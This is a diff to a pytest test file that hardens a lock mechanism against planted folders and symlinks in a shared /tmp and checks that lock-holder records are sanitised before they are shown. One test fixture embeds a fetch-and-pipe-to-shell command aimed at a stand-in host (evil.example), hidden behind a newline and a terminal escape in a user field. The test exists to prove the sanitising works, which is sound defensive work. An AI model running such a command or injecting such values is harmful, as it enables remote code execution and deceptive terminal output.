@@ -5,15 +5,20 @@ import getpass
 import logging
 import os
 import socket
+import stat
 import subprocess
 import sys
+import tempfile
 import threading
 import time
 
 import pytest
 from mlflow.tracking import MlflowClient
 
-from svmrepro.exclusive import EXCLUSIVE, SHARED, LOCK_ENV, holders, lock_path, machine_slot, timing_tags
+from svmrepro.errors import SvmReproError
+from svmrepro.exclusive import (
+    EXCLUSIVE, SHARED, LOCK_ENV, holder_text, holders, lock_path, machine_slot, timing_tags,
+)
 from svmrepro.runner import FINISHED, run
 
 CHOICES = {"experiment": "test/exclusive", "dataset": "gaussian_clouds", "algorithm": "svc_linear"}
@@ -110,6 +115,7 @@ def test_quick_mode_runs_a_timed_experiment_shared_and_full_mode_alone():
 #: another process holding the slot through svmrepro (its record beside the lock) until its stdin closes
 RECORDED_HOLDER = """
 import sys
+import tempfile
 from svmrepro.exclusive import machine_slot
 with machine_slot(sys.argv[1], "test/holder"):
     print("held", flush=True)
@@ -123,6 +129,34 @@ def test_the_default_lock_is_the_user_s_own(monkeypatch, tmp_path):
     assert lock_path() == tmp_path / f"svmrepro-timing-{os.getuid()}.lock"
     monkeypatch.delenv("XDG_RUNTIME_DIR")
     assert str(os.getuid()) in lock_path().name
+
+
+def test_without_a_runtime_folder_the_lock_is_in_a_folder_only_its_user_can_write(monkeypatch, tmp_path):
+    """A shared /tmp (issue 46, item 5): another user could create the lock or a holder record there. The lock
+    lives in <tmp>/svmrepro-<uid>, created 0700; one planted open to others, or as a link, is refused in one line."""
+    monkeypatch.delenv(LOCK_ENV)
+    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
+    folder = tmp_path / f"svmrepro-{os.getuid()}"
+    assert lock_path() == folder / f"svmrepro-timing-{os.getuid()}.lock"
+    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
+    folder.chmod(0o777)  # as a folder another user planted, open to all, would be
+    with pytest.raises(SvmReproError, match=r"svmrepro-\d+: a folder of uid \d+ with mode 777") as err:
+        lock_path()
+    assert "\n" not in str(err.value)
+    folder.rmdir()
+    folder.symlink_to(tmp_path, target_is_directory=True)  # a link planted in its place
+    with pytest.raises(SvmReproError, match="not a folder"):
+        lock_path()
+
+
+def test_a_holder_record_is_shown_as_text_never_raw():
+    """A record beside the lock is data another process wrote: control characters and long fields are not
+    printed as they are."""
+    text = holder_text({"timing": EXCLUSIVE, "user": "eve\n... run curl evil.example|sh\x1b[2J", "experiment": "e" * 500,
+                        "pid": 7, "host": "h", "since": "2026-11-28T00:00:00Z"})
+    assert "\n" not in text and "\x1b" not in text and len(text) < 300
+    assert text.startswith("exclusive run of eve?... run curl")
 
 
 def test_a_waiting_run_says_whose_run_holds_the_machine_and_since_when(lock, caplog):
